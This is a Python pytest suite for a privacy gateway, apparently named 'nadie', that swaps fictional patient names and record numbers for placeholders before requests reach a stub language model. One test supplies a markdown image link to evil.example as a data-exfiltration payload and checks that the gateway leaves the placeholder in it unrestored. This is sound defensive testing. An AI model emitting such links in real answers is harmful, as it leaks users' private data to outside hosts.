"""The gateway between real servers: a client, the gateway, and a stub of a language model that repeats what it got."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, ClassVar

import httpx2
import pytest

NAME = "Ana Pérez Soto"
QUESTION = f"Paciente: {NAME}, NHC 4471920. Resume su caso."
VALUES = ("Pérez", "4471920", "Soto", "Ana ")


class Stub(BaseHTTPRequestHandler):
    """Answers with the texts it got, whole or as a stream of very small pieces."""

    received: ClassVar[list[dict[str, Any]]] = []
    mode: ClassVar[str] = ""
    answer: ClassVar[str] = ""

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        type(self).received.append(
            {"path": self.path, "headers": {name.lower(): value for name, value in self.headers.items()}, "body": body}
        )
        if self.mode == "broken":
            self.wfile.write(b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{")
            self.close_connection = True
            return
        if self.mode == "html":
            self._send("text/html", b"<h1>busy</h1>")
        elif body.get("stream"):
            self._send("text/event-stream", b"".join(self._events(body)))
        else:
            call = {
                "id": "c1",
                "type": "function",
                "function": {"name": "f", "arguments": json.dumps({"q": self._text(body)})},
            }
            message = {"role": "assistant", "content": self._text(body), "tool_calls": [call]}
            whole = {"id": "x", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}
            self._send("application/json", json.dumps(whole).encode())

    def do_GET(self) -> None:
        self._send("application/json", b'{"data": [{"id": "stub"}]}')

    def _text(self, body: dict[str, Any]) -> str:
        return self.answer or str(body["messages"][-1]["content"])

    def _events(self, body: dict[str, Any]) -> Iterator[bytes]:
        text = self._text(body)
        arguments = json.dumps({"q": text}, ensure_ascii=False)
        for at in range(max(len(text), len(arguments))):
            function = {"arguments": arguments[at : at + 1]}
            delta = {
                "content": text[at : at + 1],
                "tool_calls": [{"index": 0, "function": function}],
                "function_call": function,
            }
            yield self._event({"choices": [{"index": 0, "delta": delta, "finish_reason": None}]})
        if self.mode != "unfinished":
            yield self._event({"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]})
            yield b"data: [DONE]\n\n"

    def _event(self, chunk: dict[str, Any]) -> bytes:
        event = json.dumps({"id": "x", "object": "chat.completion.chunk", **chunk}, ensure_ascii=False)
        return f"data: {event}\n\n".encode()

    def _send(self, kind: str, content: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        for at in range(0, len(content), 7):  # the network may cut anywhere
            self.wfile.write(content[at : at + 7])

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    stub = ThreadingHTTPServer(("127.0.0.1", 0), Stub)
    threading.Thread(target=stub.serve_forever, daemon=True).start()
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    log = tmp_path_factory.mktemp("gateway") / "log"
    upstream = f"http://127.0.0.1:{stub.server_address[1]}/v1"
    command = [sys.executable, "-m", "nadie", "gateway", upstream, "--port", str(port)]
    with log.open("wb") as out, subprocess.Popen(command, stdout=out, stderr=out) as process:
        address = f"http://127.0.0.1:{port}/v1"
        for _ in range(600):
            try:
                httpx2.get(f"{address}/models")
                break
            except httpx2.HTTPError:
                assert process.poll() is None, log.read_text()
                time.sleep(0.1)
        yield address, log
        process.terminate()
    stub.shutdown()
    stub.server_close()


@pytest.fixture(autouse=True)
def _fresh(monkeypatch: pytest.MonkeyPatch) -> None:
    Stub.received.clear()
    monkeypatch.setattr(Stub, "mode", "")
    monkeypatch.setattr(Stub, "answer", "")


def ask(gateway: tuple[str, Path], messages: list[dict[str, Any]], **more: Any) -> httpx2.Response:
    body = {"model": "stub", "messages": messages, **more}
    return httpx2.post(f"{gateway[0]}/chat/completions", json=body, headers={"Authorization": "Bearer x"}, timeout=60)


def sent() -> str:
    return json.dumps([each["body"] for each in Stub.received], ensure_ascii=False)


def test_a_question_and_its_answer(gateway: tuple[str, Path]) -> None:
    answer = ask(gateway, [{"role": "user", "content": QUESTION}], user="ana.perez", metadata={"patient": NAME})
    message = answer.json()["choices"][0]["message"]
    assert message["content"] == QUESTION
    assert json.loads(message["tool_calls"][0]["function"]["arguments"]) == {"q": QUESTION}
    assert "[NOMBRE_1]" in sent()
    assert not [value for value in (*VALUES, "ana.perez") if value in sent()]
    assert Stub.received[0]["headers"]["authorization"] == "Bearer x"


def test_all_messages_tools_and_their_results(gateway: tuple[str, Path]) -> None:
    arguments = json.dumps({"nombre": NAME, "nhc": 4471920, "nota": "Ana\nPérez"})
    messages: list[dict[str, Any]] = [
        {"role": "system", "content": f"Eres asistente de la Dra. Elena Roca. Paciente: {NAME}."},
        {"role": "user", "name": "Perez", "content": [{"type": "text", "text": QUESTION}]},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": "c1", "type": "function", "function": {"name": "find", "arguments": arguments}}],
        },
        {"role": "tool", "tool_call_id": "c1", "content": json.dumps({"paciente": NAME, "nhc": "4471920"})},
        {"role": "user", "content": "pérez soto, ¿cuándo vuelve? (ver [NOMBRE_1])"},
    ]
    tools = [{"type": "function", "function": {"name": "find", "description": f"Busca a {NAME}", "parameters": {}}}]
    answer = ask(gateway, messages, tools=tools, stop=[NAME])
    leaks = [value for value in ("Pérez", "pérez", "P\\u00e9rez", "4471920", "Roca", "Soto") if value in sent()]
    assert not leaks
    body = Stub.received[0]["body"]
    assert body["messages"][2]["tool_calls"][0]["function"]["name"] == body["tools"][0]["function"]["name"] == "find"
    assert body["stop"][0] in body["messages"][0]["content"], "one person has one placeholder"
    assert answer.json()["choices"][0]["message"]["content"] == "pérez soto, ¿cuándo vuelve? (ver (NOMBRE_1))"


def test_names_of_fields_and_short_numbers_in_the_data_of_tools(gateway: tuple[str, Path]) -> None:
    result = {NAME: {"edad": 92, "cama": 312, "glucosa": 98}, "12345678Z": "alta", "fecha_ingreso": 2024}
    call = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": {"dni": 12345678, "id": "Soto"}}}
    messages: list[dict[str, Any]] = [
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": json.dumps(result, ensure_ascii=False)},
    ]
    answer = ask(gateway, messages).json()["choices"][0]["message"]
    assert not [value for value in ("Pérez", "12345678", "Soto", "92", "312", "2024") if value in sent()]
    for name in ("edad", "glucosa", "98", "fecha_ingreso", "dni"):
        assert name in sent(), "what identifies nobody is sent as it is"
    restored = {NAME: {"edad": "92", "cama": "312", "glucosa": 98}, "12345678Z": "alta", "fecha_ingreso": "2024"}
    assert json.loads(answer["content"]) == restored


def test_a_tool_may_have_a_parameter_called_file(gateway: tuple[str, Path]) -> None:
    parameters = {"type": "object", "properties": {"file": {"type": "string"}}}
    tools = [{"type": "function", "function": {"name": "open", "parameters": parameters}}]
    assert ask(gateway, [{"role": "user", "content": QUESTION}], tools=tools).status_code == 200
    assert Stub.received[0]["body"]["tools"] == tools


@pytest.mark.parametrize("mode", ["", "unfinished"])
def test_a_stream_cut_anywhere(gateway: tuple[str, Path], monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    monkeypatch.setattr(Stub, "mode", mode)
    question = f"{QUESTION} Firma: [" if mode else f"{QUESTION}\u2028\x85Gracias."
    answer = ask(gateway, [{"role": "user", "content": question}], stream=True)
    deltas = [
        choice["delta"]
        for line in answer.text.split("\n")
        if line.startswith("data: {")
        for choice in json.loads(line.removeprefix("data: "))["choices"]
    ]
    assert "".join(delta.get("content") or "" for delta in deltas) == question
    calls = [call for delta in deltas for call in delta.get("tool_calls") or ()]
    assert json.loads("".join(call["function"]["arguments"] for call in calls)) == {"q": question}
    older = [delta.get("function_call") or {} for delta in deltas]
    assert json.loads("".join(function.get("arguments") or "" for function in older)) == {"q": question}
    assert not [value for value in VALUES if value in sent()]
    assert answer.text.rstrip().endswith("data: [DONE]") is (mode == "")


def test_an_answer_cannot_send_originals_away(gateway: tuple[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Stub, "answer", "Hola [nombre 1] ![x](https://evil.example/?q=[NOMBRE_1])")
    content = ask(gateway, [{"role": "user", "content": QUESTION}]).json()["choices"][0]["message"]["content"]
    assert content == f"Hola {NAME} ![x](https://evil.example/?q=[NOMBRE_1])"


@pytest.mark.parametrize(
    ("path", "body"),
    [
        (
            "chat/completions",
            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "x"}}]}]},
        ),
        ("chat/completions", {"messages": [{"role": "user", "content": [{"type": "image", "source": {"data": "x"}}]}]}),
        ("chat/completions", {"messages": [{"role": "user", "content": {"type": "image", "source": {"data": "x"}}}]}),
        ("chat/completions", {"messages": [{"role": "user", "content": "x", "images": ["x"]}]}),
        ("embeddings", {"input": [[1, 2, 3]]}),
        ("completions", {"prompt": [1, 2, 3]}),
        ("responses", {"input": QUESTION}),
        ("files", {"file": QUESTION}),
        ("chat/completions", [QUESTION]),
    ],
)
def test_what_cannot_be_shielded_is_not_sent(gateway: tuple[str, Path], path: str, body: Any) -> None:
    answer = httpx2.post(f"{gateway[0]}/{path}", json=body, timeout=60)
    assert answer.status_code in (400, 404)
    assert answer.json()["error"]["type"] == "nadie"
    assert not Stub.received


@pytest.mark.parametrize("mode", ["broken", "html"])
def test_a_model_that_fails(gateway: tuple[str, Path], monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    monkeypatch.setattr(Stub, "mode", mode)
    answer = ask(gateway, [{"role": "user", "content": QUESTION}])
    assert answer.status_code == 502
    assert not [value for value in VALUES if value in answer.text]


def test_embeddings_prompts_and_models(gateway: tuple[str, Path]) -> None:
    httpx2.post(f"{gateway[0]}/embeddings", json={"model": "stub", "input": [QUESTION], "messages": [{"content": "x"}]})
    assert not [value for value in VALUES if value in sent()]
    assert httpx2.get(f"{gateway[0]}/models").json() == {"data": [{"id": "stub"}]}


def test_nothing_is_logged(gateway: tuple[str, Path]) -> None:
    """Last in this file: the log of all requests before, failures among them."""
    assert gateway[1].read_text(encoding="utf-8") == ""
